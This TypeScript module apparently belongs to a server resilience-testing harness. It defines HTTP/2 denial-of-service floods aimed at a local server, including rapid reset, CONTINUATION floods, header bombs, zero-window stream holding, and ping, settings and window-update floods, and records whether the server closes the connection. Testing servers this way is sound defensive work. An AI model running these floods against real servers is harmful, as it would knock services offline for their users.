/**
 * Shapes of HTTP/2 connections: floods of frames that cost the sender nine bytes each, almost all without credentials.
 *
 * A server that defends itself closes the connection; the shape then stops, so its cost is what the server did until then.
 */
import { setTimeout as sleep } from 'node:timers/promises'
import { endHeaders, endStream, frame, headerBlock, indexedField, preface, uint32 } from './frames.ts'
import { coreKinds, list, type AttackAddress, type ConnectionOutcome, type ConnectionShape } from './shape.ts'
import { RawConnection } from './sockets.ts'

/** Frames that are sent at once. */
const batch = 500
const settleMs = 300

type Fields = readonly (readonly [string, string])[]

function fieldsOf({ port }: AttackAddress, method: string, more: Fields = []): Fields {
  return [
    [':method', method],
    [':scheme', 'https'],
    [':authority', `127.0.0.1:${port}`],
    [':path', `${coreKinds}/configmaps`],
    ...more,
  ]
}

/** The stream of the index-th request of a client. */
function streamId(index: number): number {
  return index * 2 + 1
}

interface Flood {
  readonly opening?: readonly Uint8Array[]
  readonly settings?: readonly (readonly [number, number])[]
  readonly n: number
  readonly signal: AbortSignal
  frameAt(index: number): Uint8Array
}

/** Sends n frames, or less when the server closes the connection. */
async function flood(
  address: AttackAddress,
  { opening = [], settings = [], n, signal, frameAt }: Flood,
): Promise<ConnectionOutcome> {
  const connection = await RawConnection.open(address, { signal, protocol: 'h2' })
  if (!connection) return { bytes: 0, status: 'refused' }
  let isOpen = await connection.write(Buffer.concat([preface(settings), ...opening]))
  for (let sent = 0; isOpen && sent < n; sent += batch) {
    const frames = list(Math.min(batch, n - sent), (index) => frameAt(sent + index))
    isOpen = await connection.write(Buffer.concat(frames))
    await sleep(0)
  }
  await connection.ended(settleMs)
  const outcome = { bytes: connection.bytes, status: connection.isClosed ? 'closed' : 'open' }
  connection.close()
  return outcome
}

/** A flood of one frame. */
function sameFrame(
  name: string,
  n: number,
  make: (address: AttackAddress, index: number) => Uint8Array,
): ConnectionShape {
  return {
    name: `http2 ${name}`,
    entry: 'http2',
    n,
    run: (address, size, signal) => flood(address, { n: size, signal, frameAt: (index) => make(address, index) }),
  }
}

function requestFrame(fields: Fields, stream: number, flags = endHeaders | endStream): Buffer {
  return frame('headers', headerBlock(fields), { flags, stream })
}

const tinyStreams = 200

/** Bodies without credentials, in frames of one byte, on many streams in turn. */
function tinyFrames(address: AttackAddress, n: number, signal: AbortSignal): Promise<ConnectionOutcome> {
  const fields = fieldsOf(address, 'POST', [
    ['content-type', 'application/json'],
    ['content-length', '60000'],
  ])
  const opening = list(tinyStreams, (index) => requestFrame(fields, streamId(index), endHeaders))
  const frames = list(tinyStreams, (index) => frame('data', Buffer.from(' '), { stream: streamId(index) }))
  const frameAt = (index: number): Uint8Array => frames[index % tinyStreams] ?? Buffer.alloc(0)
  return flood(address, { opening, n, signal, frameAt })
}

/** Lists on streams whose window stays closed: the server has to hold them. */
function unreadLists(address: AttackAddress, n: number, signal: AbortSignal): Promise<ConnectionOutcome> {
  const fields = fieldsOf(address, 'GET', [['authorization', `Bearer ${address.tokens.mallory}`]])
  const initialWindowSize = 4
  const frameAt = (index: number): Uint8Array => requestFrame(fields, streamId(index))
  return flood(address, { settings: [[initialWindowSize, 0]], n, signal, frameAt })
}

/** A field of 4 kB, and requests that repeat it by one byte each time. */
function headerBomb(address: AttackAddress, n: number, signal: AbortSignal): Promise<ConnectionOutcome> {
  const fields = headerBlock(fieldsOf(address, 'GET'))
  const first = Buffer.concat([fields, indexedField('x', 'a'.repeat(4_000))])
  const repeated = Buffer.concat([fields, Buffer.alloc(10_000, 0xbe)])
  const opening = [frame('headers', first, { flags: endHeaders | endStream, stream: 1 })]
  const frameAt = (index: number): Uint8Array =>
    frame('headers', repeated, { flags: endHeaders | endStream, stream: streamId(index + 1) })
  return flood(address, { opening, n, signal, frameAt })
}

/** A head that never ends. */
function continuations(address: AttackAddress, n: number, signal: AbortSignal): Promise<ConnectionOutcome> {
  const opening = [requestFrame(fieldsOf(address, 'GET'), 1, endStream)]
  const piece = headerBlock([['x', 'a'.repeat(20)]])
  return flood(address, { opening, n, signal, frameAt: () => frame('continuation', piece, { stream: 1 }) })
}

function shape(name: string, n: number, run: ConnectionShape['run']): ConnectionShape {
  return { name: `http2 ${name}`, entry: 'http2', n, run }
}

export const http2Shapes: readonly ConnectionShape[] = [
  shape('tiny frames without credentials', 1_000_000, tinyFrames),
  shape('lists that are not read', 200, unreadLists),
  shape('header bomb', 200, headerBomb),
  shape('continuations', 20_000, continuations),
  sameFrame('rapid reset', 10_000, (address, index) => {
    const stream = streamId(index)
    return Buffer.concat([requestFrame(fieldsOf(address, 'GET'), stream), frame('reset', uint32(8), { stream })])
  }),
  sameFrame('resets that the server makes', 10_000, (address, index) => {
    const stream = streamId(index)
    const request = requestFrame(fieldsOf(address, 'POST'), stream, endHeaders)
    return Buffer.concat([request, frame('windowUpdate', uint32(0), { stream })])
  }),
  sameFrame('bad requests', 10_000, (_, index) => requestFrame([[':method', '!']], streamId(index))),
  sameFrame('pings', 20_000, () => frame('ping', Buffer.alloc(8))),
  sameFrame('settings', 20_000, () => frame('settings', Buffer.alloc(0))),
  sameFrame('window updates', 100_000, () => frame('windowUpdate', uint32(1))),
  sameFrame('priorities', 100_000, (_, index) => frame('priority', Buffer.alloc(5), { stream: streamId(index + 1) })),
  sameFrame('unknown frames', 100_000, () => frame('unknown', Buffer.alloc(0))),
  shape('empty data', 20_000, (address, n, signal) =>
    flood(address, {
      opening: [requestFrame(fieldsOf(address, 'POST'), 1, endHeaders)],
      n,
      signal,
      frameAt: () => frame('data', Buffer.alloc(0), { stream: 1 }),
    }),
  ),
]
